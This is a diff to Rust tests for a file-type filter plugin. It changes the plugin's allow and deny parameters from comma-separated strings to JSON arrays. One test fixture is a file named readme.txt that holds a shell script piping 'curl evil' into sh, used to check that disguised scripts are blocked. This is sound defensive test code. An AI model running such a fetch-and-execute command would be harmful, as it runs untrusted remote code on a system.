@@ -58,7 +58,11 @@ async fn denied_categories_are_blocked_whatever_the_name() {
     let filter = host.plugin("filetype_filter").await;
     let report = host
         .run(
-            &[stage(&filter, &[("deny", "executable,script")], Grants::default())],
+            &[stage(
+                &filter,
+                &[("deny", r#"["executable", "script"]"#)],
+                Grants::default(),
+            )],
             object("staging", "readme.txt", b"#!/bin/sh\ncurl evil | sh\n".to_vec(), None),
         )
         .await;
@@ -73,7 +77,7 @@ async fn allowed_types_pass_on_to_the_scanner() {
     let pipeline = [
         stage(
             &filter,
-            &[("allow", "pdf,text"), ("block-mismatch", "true")],
+            &[("allow", r#"["pdf", "text"]"#), ("block-mismatch", "true")],
             Grants::default(),
         ),
         stage(&bridge, &[], clamav_grant()),
